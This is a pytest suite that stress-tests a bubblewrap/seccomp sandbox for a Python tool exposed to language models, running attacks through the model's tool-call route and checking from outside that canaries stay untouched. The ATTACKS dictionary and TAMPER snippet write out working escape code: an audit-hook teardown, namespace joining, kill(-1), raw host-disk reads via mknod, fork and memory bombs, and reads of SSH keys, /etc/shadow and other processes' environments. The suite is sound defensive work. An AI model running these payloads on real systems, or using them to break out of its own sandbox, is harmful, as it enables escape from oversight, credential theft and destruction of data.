"""Attacks on the sandbox, each run through the real tool call, each checked by the harness itself.

Every attack runs twice: through `PythonToolEnv`'s `python` tool (what a model
reaches; the audit-hook layer is on, and most attacks first tear it down the way
the issue shows), and with the audit hook left out (`run_python(audit_hook=False)`),
so the kernel layer (bubblewrap, seccomp, per-uid limits) is shown to hold alone.

The harness never trusts what the attacked code prints about its success. Before
each attack it plants a random token in canary files (a file the attacker is told
the path of, ~/.ssh, the server's key store, an on-disk file for raw-device reads),
in this process's environment, and keeps a TCP, UDP, DNS and two unix-socket
listeners on loopback and a decoy process. After the attack it checks from the
outside: the token is in nothing that came back, no listener saw a byte, the decoy
lives with its priority and scheduler unchanged, the canary directory is as it
was, no marked process survives, and host disk use did not grow.

Where bubblewrap is missing the suite fails, saying how to install it.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import sysconfig
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tinkerless.envs import python_tool
from tinkerless.envs.python_tool import PythonToolEnv
from tinkerless.envs.sandbox import SandboxLimits, SandboxResult, SandboxUnavailable, run_python
from tinkerless.server.keys import KEYS_FILE, KeyStore
from tinkerless.storage import ObjectStore

pytestmark = pytest.mark.timeout(120)

LIMITS = SandboxLimits(cpu_seconds=1, wall_seconds=4, memory_bytes=192 * 2**20, disk_bytes=8 * 2**20, max_output_bytes=65536)
FORKING = SandboxLimits(cpu_seconds=1, wall_seconds=4, memory_bytes=192 * 2**20, disk_bytes=8 * 2**20, max_processes=2, max_output_bytes=65536)


@pytest.fixture(scope="module", autouse=True)
def bubblewrap_is_installed():
    if shutil.which("bwrap") is None:
        pytest.fail(
            "bubblewrap (bwrap) is not installed, so the sandbox cannot run and this suite cannot show it holds. "
            "Install it: `apt-get install bubblewrap python3-seccomp` (scripts/install.sh does it); see docs/sandbox.md",
            pytrace=False,
        )
    try:
        run_python("pass")
    except SandboxUnavailable as exc:
        pytest.fail(f"{exc.message}. Fix: {exc.hint}", pytrace=False)


# ---------------------------------------------------------------------------
# the harness


@dataclass
class Harness:
    token: str
    secret_file: Path
    canary_dir: Path
    ssh_canary: Path
    key_store_file: Path
    key_digest: str
    disk_canary: Path
    decoy: subprocess.Popen
    marker: str
    listeners: dict[str, socket.socket] = field(default_factory=dict)
    shadow_hashes: list[str] = field(default_factory=list)

    def values(self) -> dict:
        """What the attacked code is told: where things are. Never the token."""
        root = os.stat("/")
        return {
            "secret_file": str(self.secret_file),
            "canary_dir": str(self.canary_dir),
            "ssh_dir": str(self.ssh_canary.parent),
            "ssh_canary": str(self.ssh_canary),
            "key_store_file": str(self.key_store_file),
            "decoy_pid": self.decoy.pid,
            "parent_pid": os.getpid(),
            "marker": self.marker,
            "tcp_port": self.listeners["tcp"].getsockname()[1],
            "udp_port": self.listeners["udp"].getsockname()[1],
            "dns_port": self.listeners["dns"].getsockname()[1],
            "unix_path": self.listeners["unix"].getsockname(),
            "abstract_name": self.listeners["abstract"].getsockname().decode("latin-1")[1:]
            if isinstance(self.listeners["abstract"].getsockname(), bytes)
            else self.listeners["abstract"].getsockname()[1:],
            "root_dev": [os.major(root.st_dev), os.minor(root.st_dev)],
            "stdlib": sysconfig.get_path("stdlib"),
            "host_tmp": tempfile.gettempdir(),
        }

    def snapshot(self) -> dict:
        return {
            "canary": sorted((p.name, p.read_bytes() if p.is_file() else b"<dir>") for p in self.canary_dir.iterdir()),
            "priority": os.getpriority(os.PRIO_PROCESS, self.decoy.pid),
            "scheduler": os.sched_getscheduler(self.decoy.pid),
            "disk_free": shutil.disk_usage(tempfile.gettempdir()).free,
            "shm_free": shutil.disk_usage("/dev/shm").free if os.path.isdir("/dev/shm") else 0,
        }

    def verify(self, before: dict, returned: str) -> None:
        """Everything the attack might have done, checked from the outside."""
        for secret in [self.token, self.key_digest, *self.shadow_hashes]:
            assert secret not in returned, "a secret came back out of the sandbox"
        for name, listener in self.listeners.items():
            listener.setblocking(False)
            if listener.type == socket.SOCK_STREAM:
                with pytest.raises(BlockingIOError):
                    listener.accept()
                    pytest.fail(f"the {name} listener accepted a connection from the sandbox")
            else:
                with pytest.raises(BlockingIOError):
                    listener.recvfrom(65536)
                    pytest.fail(f"the {name} listener received a datagram from the sandbox")
        assert self.decoy.poll() is None, "the decoy process was killed"
        state = Path(f"/proc/{self.decoy.pid}/status").read_text()
        assert "\nState:\tS" in state or "\nState:\tR" in state, "the decoy was stopped or traced"
        assert "\nTracerPid:\t0\n" in state
        after = self.snapshot()
        assert after["canary"] == before["canary"], "files outside the sandbox changed"
        assert after["priority"] == before["priority"] and after["scheduler"] == before["scheduler"]
        assert before["disk_free"] - after["disk_free"] < 64 * 2**20, "host disk filled up"
        assert before["shm_free"] - after["shm_free"] < 64 * 2**20, "host /dev/shm filled up"
        time.sleep(0.05)
        assert processes_named(self.marker) == [], "a process started in the sandbox outlived the call"
        for directory in (tempfile.gettempdir(), os.path.dirname(self.secret_file), str(Path.home()), "/etc"):
            assert not any(self.marker in name for name in os.listdir(directory)), f"the sandbox wrote into {directory}"


def processes_named(name: str) -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if Path(f"/proc/{entry}/comm").read_text().strip() == name:
                    found.append(entry)
            except OSError:
                continue
    return found


def _listen(family: int, kind: int, address) -> socket.socket:
    sock = socket.socket(family, kind)
    sock.bind(address)
    if kind == socket.SOCK_STREAM:
        sock.listen(16)
    return sock


@pytest.fixture
def harness(tmp_path, monkeypatch):
    token = secrets.token_hex(16)
    marker = "tl" + secrets.token_hex(5)
    canary_dir = tmp_path / "canary"
    canary_dir.mkdir()
    (canary_dir / "victim.txt").write_text("original")
    secret_file = canary_dir / "secret.txt"
    secret_file.write_text(f"secret {token}\n")
    os.chmod(canary_dir, 0o777)  # even a world-writable directory must stay out of reach
    disk_canary = tmp_path / "on-disk.bin"
    with open(disk_canary, "wb") as f:
        f.write(f"DISKCANARY{token}".encode() * 64)
        f.flush()
        os.fsync(f.fileno())
    ssh_dir = Path.home() / ".ssh"
    made_ssh_dir = not ssh_dir.exists()
    ssh_dir.mkdir(mode=0o700, exist_ok=True)
    ssh_canary = ssh_dir / f"tinkerless_canary_{marker}"
    ssh_canary.write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{token}\n-----END OPENSSH PRIVATE KEY-----\n")
    storage = tmp_path / "server-storage"
    KeyStore(ObjectStore(str(storage))).create("tenant-a")
    key_store_file = storage / KEYS_FILE
    key_digest = json.loads(key_store_file.read_text())[0]["sha256"]
    monkeypatch.setenv("TINKERLESS_CANARY_SECRET", token)
    shadow_hashes = []
    if os.access("/etc/shadow", os.R_OK):
        shadow_hashes = [f.split(":")[1] for f in Path("/etc/shadow").read_text().splitlines() if len(f.split(":")) > 2 and len(f.split(":")[1]) > 4]
    decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"])
    listeners = {
        "tcp": _listen(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)),
        "udp": _listen(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
        "dns": _listen(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
        "unix": _listen(socket.AF_UNIX, socket.SOCK_STREAM, str(tmp_path / "listener.sock")),
        "abstract": _listen(socket.AF_UNIX, socket.SOCK_STREAM, f"\0tinkerless-{marker}"),
    }
    os.chmod(tmp_path / "listener.sock", 0o777)
    made = Harness(token, secret_file, canary_dir, ssh_canary, key_store_file, key_digest, disk_canary, decoy, marker, listeners, shadow_hashes)
    try:
        yield made
    finally:
        decoy.kill()
        decoy.wait()
        for sock in listeners.values():
            sock.close()
        ssh_canary.unlink(missing_ok=True)
        if made_ssh_dir:
            shutil.rmtree(ssh_dir, ignore_errors=True)


# ---------------------------------------------------------------------------
# running an attack through a layer


class AttackEnv(PythonToolEnv):
    # The default python tool, pinned to bubblewrap: these attacks include kill(-1) and friends, which
    # must never run unconfined, whatever $TINKERLESS_SANDBOX says.
    tools = [python_tool.python_tool(sandbox="bwrap")]
    max_response_chars = 10**7  # the harness reads everything the model would


@pytest.fixture(autouse=True)
def only_bubblewrap(monkeypatch):
    monkeypatch.delenv("TINKERLESS_SANDBOX", raising=False)


def through_tool_call(code: str, limits: SandboxLimits, monkeypatch) -> tuple[str, list[SandboxResult]]:
    """The model's route: a <tool_call> to the python tool in PythonToolEnv. Returns the observation and raw results."""
    monkeypatch.setattr(python_tool, "TOOL_LIMITS", limits)
    recorded: list[SandboxResult] = []
    real = python_tool.run_python

    def recording(*args, **kwargs):
        recorded.append(real(*args, **kwargs))
        return recorded[-1]

    monkeypatch.setattr(python_tool, "run_python", recording)
    env = AttackEnv()
    env.reset(question="What is 6 * 7?", answer=42)
    step = env.step("<tool_call>" + json.dumps({"name": "python", "arguments": {"code": code}}) + "</tool_call>")
    assert not step.done, "a tool call, whatever it did, is an observation; the episode goes on"
    after = env.step("<tool_call>" + json.dumps({"name": "python", "arguments": {"code": "print(6 * 7)"}}) + "</tool_call>")
    assert after.observation == "<tool_response>42</tool_response>", "the next call still works"
    return step.observation or "", recorded


def run_attack(layer: str, code: str, harness: Harness, monkeypatch, limits: SandboxLimits) -> str:
    code = f"HARNESS = {json.dumps(harness.values())}\n" + (TAMPER if layer == "tool_call" else "") + PRELUDE + code + REPORT
    before = harness.snapshot()
    started = time.monotonic()
    if layer == "tool_call":
        observation, results = through_tool_call(code, limits, monkeypatch)
        assert results and all(r.sandbox == "bwrap" for r in results)
        returned = observation + "".join(r.stdout + r.stderr for r in results)
    else:
        result = run_python(code, limits=limits, audit_hook=False, sandbox="bwrap")
        returned = result.stdout + result.stderr
    assert time.monotonic() - started < limits.wall_seconds * 2 + 6, "the call did not end near its wall-clock limit"
    harness.verify(before, returned)
    return returned


# Tears the audit hook down from inside, as the issue shows: a denied call's traceback holds the hook's
# frame, whose `lookup` is the bound `get` of the handler table; clearing the table turns every check off.
TAMPER = '''
def _tear_down_audit_hook():
    try:
        open("/nonexistent-dir/x", "w")
    except BaseException as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook" and "lookup" in tb.tb_frame.f_locals:
                tb.tb_frame.f_locals["lookup"].__self__.clear()
            tb = tb.tb_next
_tear_down_audit_hook()
'''

# Helpers the attacks share; each attempt is wrapped so one refusal does not stop the next attempt.
PRELUDE = '''
import os, sys
loot = []
def attempt(label, fn):
    try:
        loot.append((label, "ok", repr(fn())[:4000]))
    except BaseException as exc:
        loot.append((label, "refused", repr(exc)[:300]))
def libc():
    import ctypes
    return ctypes.CDLL(None, use_errno=True)
def reimported(name):
    import importlib
    sys.modules.pop(name, None)
    return importlib.import_module(name)
def read(path):
    with open(path, "rb") as f:
        return f.read()
'''
REPORT = "\nfor line in loot:\n    print(*line)\n"

ATTACKS = {
    # --- bypass classes from the issue ---------------------------------------
    "hook_frame_tampering": '''
attempt("read secret", lambda: read(HARNESS["secret_file"]))
attempt("overwrite victim", lambda: open(HARNESS["canary_dir"] + "/victim.txt", "w").write("owned"))
attempt("new file outside", lambda: open(HARNESS["canary_dir"] + "/" + HARNESS["marker"], "w").write("owned"))
''',
    "builtins_replacement": '''
import builtins
_real = isinstance
builtins.isinstance = lambda obj, kind: True if kind is int else (False if kind is bool else _real(obj, kind))
attempt("read secret", lambda: read(HARNESS["secret_file"]))
attempt("write victim", lambda: open(HARNESS["canary_dir"] + "/victim.txt", "w").write("owned"))
class Sneaky(str):
    @property
    def __class__(self):
        return int
attempt("subclass path", lambda: open(Sneaky(HARNESS["canary_dir"] + "/victim.txt"), "w").write("owned"))
''',
    "setns_into_host_namespaces": '''
def join_all():
    joined = []
    for pid in os.listdir("/proc"):
        for ns in ("net", "mnt", "pid", "user", "ipc", "uts"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
                if libc().setns(fd, 0) == 0:
                    joined.append((pid, ns))
            except Exception:
                pass
    return joined
attempt("setns", join_all)
attempt("unshare user+mount", lambda: libc().unshare(0x10000000 | 0x00020000))
import socket
attempt("tcp after setns", lambda: socket.create_connection(("127.0.0.1", HARNESS["tcp_port"]), timeout=1))
attempt("read secret after setns", lambda: read(HARNESS["secret_file"]))
''',
    "pidfd_and_signals": '''
import signal
attempt("pidfd_open decoy", lambda: os.pidfd_open(HARNESS["decoy_pid"]))
attempt("pidfd_open init", lambda: signal.pidfd_send_signal(os.pidfd_open(1), signal.SIGKILL))
attempt("pidfd syscall", lambda: libc().syscall(434, HARNESS["decoy_pid"], 0))
attempt("kill decoy", lambda: os.kill(HARNESS["decoy_pid"], signal.SIGKILL))
attempt("kill parent", lambda: os.kill(HARNESS["parent_pid"], signal.SIGSTOP))
attempt("kill everything", lambda: os.kill(-1, signal.SIGKILL))
''',
    "priorities_of_other_processes": '''
attempt("nice decoy", lambda: os.setpriority(os.PRIO_PROCESS, HARNESS["decoy_pid"], -20))
attempt("nice everyone", lambda: os.setpriority(os.PRIO_USER, 0, 19))
attempt("realtime decoy", lambda: os.sched_setscheduler(HARNESS["decoy_pid"], os.SCHED_FIFO, os.sched_param(50)))
attempt("ptrace decoy", lambda: libc().ptrace(16, HARNESS["decoy_pid"], 0, 0))
attempt("ptrace init", lambda: libc().ptrace(16, 1, 0, 0))
''',
    "reimported_posix_and_thread": '''
import stat
posix = reimported("posix")
attempt("mknod in canary", lambda: posix.mknod(HARNESS["canary_dir"] + "/dev", stat.S_IFCHR | 0o666, os.makedev(1, 3)))
attempt("mkfifo in canary", lambda: posix.mkfifo(HARNESS["canary_dir"] + "/fifo"))
attempt("mknod here", lambda: posix.mknod("/tmp/null", stat.S_IFCHR | 0o666, os.makedev(1, 3)))
_thread = reimported("_thread")
attempt("threads", lambda: [_thread.start_new_thread(__import__("time").sleep, (30,)) for _ in range(50)])
''',
    "nss_and_openssl_reads": '''
attempt("shadow via spwd", lambda: __import__("spwd").getspall())
attempt("passwd via pwd", lambda: __import__("pwd").getpwall())
attempt("groups via grp", lambda: __import__("grp").getgrall())
import ssl
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
attempt("key file via openssl", lambda: ctx.load_cert_chain(HARNESS["ssh_canary"], HARNESS["ssh_canary"]))
attempt("ca file via openssl", lambda: ctx.load_verify_locations(HARNESS["secret_file"]))
attempt("default verify paths", lambda: ctx.load_default_certs())
''',
    "mknod_of_the_host_disk": '''
import stat
major, minor = HARNESS["root_dev"]
def read_disk():
    os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(major, minor))
    with open("/tmp/disk", "rb") as disk:
        for _ in range(256):
            chunk = disk.read(1 << 20)
            if b"DISKCANARY" in chunk:
                start = chunk.index(b"DISKCANARY")
                return chunk[start:start + 64]
attempt("mknod root disk", read_disk)
attempt("devices present", lambda: os.listdir("/dev"))
attempt("sys block", lambda: os.listdir("/sys/block"))
''',
    "disk_fill": '''
def fill(path):
    written = 0
    with open(path, "wb") as f:
        for _ in range(1024):
            f.write(b"x" * (1 << 20))
            written += 1
    return written
attempt("fill work dir", lambda: fill("/tmp/fill"))
attempt("fill shm", lambda: fill("/dev/shm/fill"))
attempt("fill host tmp", lambda: fill(HARNESS["host_tmp"] + "/" + HARNESS["marker"]))
''',
    "deep_directory_tree": '''
def deep():
    depth = 0
    for depth in range(20000):
        os.mkdir("d")
        os.chdir("d")
    return depth
attempt("deep tree", deep)
''',
    "background_process_outlives_the_call": '''
import time, signal
posix = reimported("posix")
def spawn():
    pid = os.fork()
    if pid == 0:
        try:
            posix.setsid()
        except Exception:
            pass
        for sig in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        open("/proc/self/comm", "w").write(HARNESS["marker"])
        time.sleep(2)
        # Had it survived: change what the next call sees, and reach the host.
        try:
            open("/tmp/planted", "w").write("from the last call")
            open(HARNESS["canary_dir"] + "/late", "w").write("owned")
        finally:
            time.sleep(30)
        os._exit(0)
    return pid
attempt("fork a survivor", spawn)
''',
    # --- the classics ------------------------------------------------------------
    "fork_bomb": '''
import time
open("/proc/self/comm", "w").write(HARNESS["marker"])
deadline = time.monotonic() + 1.5
children = 0
while time.monotonic() < deadline:
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    except Exception:
        pass
loot.append(("children", "ok", children))
''',
    "memory_bomb": '''
hoard = []
def grab():
    while True:
        hoard.append(bytearray(64 << 20))
attempt("memory", grab)
hoard.clear()
''',
    "cpu_loop": '''
while True:
    pass
''',
    "tcp_udp_dns_unix_network": '''
import socket
p = HARNESS
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", p["tcp_port"]), timeout=1).sendall(b"hello"))
attempt("tcp6", lambda: socket.create_connection(("::1", p["tcp_port"]), timeout=1))
def udp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b"hello", ("127.0.0.1", port))
attempt("udp", lambda: udp(p["udp_port"]))
query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
attempt("dns to loopback server", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", p["dns_port"])))
attempt("dns to public resolver", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("8.8.8.8", 53)))
attempt("getaddrinfo", lambda: socket.getaddrinfo("example.com", 80))
def unix(address):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(address)
    return s.send(b"hello")
attempt("unix path", lambda: unix(p["unix_path"]))
attempt("unix abstract", lambda: unix("\\0" + p["abstract_name"]))
attempt("vsock to host", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 22)))
attempt("netlink", lambda: socket.socket(16, socket.SOCK_RAW, 0))
attempt("interfaces", lambda: socket.if_nameindex())
''',
    "reads_of_ssh_env_and_key_store": '''
p = HARNESS
attempt("ssh dir", lambda: os.listdir(p["ssh_dir"]))
attempt("ssh key", lambda: read(p["ssh_canary"]))
attempt("home ssh", lambda: os.listdir(os.path.expanduser("~/.ssh")))
attempt("own env", lambda: dict(os.environ))
attempt("env of every process", lambda: [read(f"/proc/{q}/environ") for q in os.listdir("/proc") if q.isdigit()])
attempt("env of the parent", lambda: read(f"/proc/{p['parent_pid']}/environ"))
attempt("key store", lambda: read(p["key_store_file"]))
attempt("secret", lambda: read(p["secret_file"]))
attempt("proc root escape", lambda: read("/proc/1/root" + p["secret_file"]))
attempt("cwd of init", lambda: os.listdir("/proc/1/cwd"))
''',
    "writes_outside_the_work_dir": '''
p = HARNESS
name = p["marker"]
for target in (p["canary_dir"] + "/" + name, p["canary_dir"] + "/victim.txt", p["host_tmp"] + "/" + name,
               "/etc/" + name, p["stdlib"] + "/" + name + ".py", os.path.expanduser("~") + "/" + name,
               "/proc/self/cwd/../" + name, "/proc/1/root/etc/" + name):
    attempt("write " + target, lambda target=target: open(target, "w").write("owned"))
attempt("symlink out", lambda: (os.symlink(p["canary_dir"] + "/victim.txt", "link"), open("link", "w").write("owned")))
attempt("rename stdlib", lambda: os.rename(p["stdlib"] + "/os.py", p["stdlib"] + "/os_.py"))
attempt("chmod victim", lambda: os.chmod(p["canary_dir"] + "/victim.txt", 0o777))
attempt("remount rw", lambda: libc().mount(None, b"/", None, 32 | 4096, None))
''',
}

LAYERS = ["tool_call", "kernel_only"]


@pytest.fixture(params=LAYERS)
def layer(request) -> str:
    return request.param


@pytest.mark.parametrize("attack", [name for name in ATTACKS if name not in ("background_process_outlives_the_call", "fork_bomb")])
def test_attack_does_nothing(attack, layer, harness, monkeypatch):
    run_attack(layer, ATTACKS[attack], harness, monkeypatch, LIMITS)


@pytest.mark.parametrize("attack", ["background_process_outlives_the_call", "fork_bomb"])
def test_processes_never_outlive_the_call(attack, layer, harness, monkeypatch):
    # Processes are allowed here (max_processes=2), so only the PID namespace ends them.
    run_attack(layer, ATTACKS[attack], harness, monkeypatch, FORKING)
    time.sleep(2.5)  # past the moment a survivor would have struck
    harness.verify(harness.snapshot(), "")
    follow_up = run_python("import os\nprint(sorted(os.listdir('/tmp')))")
    assert follow_up.stdout == "[]\n", "the next call starts from an empty work dir"


def test_the_tampering_really_disables_the_audit_hook():
    """The attacks are real: in the process sandbox (no kernel layer) the same tampering lets code out.

    Only this harmless write ever runs outside bubblewrap: the attacks above include kill(-1).
    """
    with tempfile.TemporaryDirectory() as outside:
        target = os.path.join(outside, "escaped.txt")
        code = TAMPER + f"open({target!r}, 'w').write('escaped')\nprint('wrote it')\n"
        unsafe = run_python(code, limits=LIMITS, sandbox="process-unsafe")
        assert unsafe.stdout == "wrote it\n" and os.path.exists(target), unsafe
        os.remove(target)
        confined = run_python(code, limits=LIMITS)
        assert not os.path.exists(target), confined
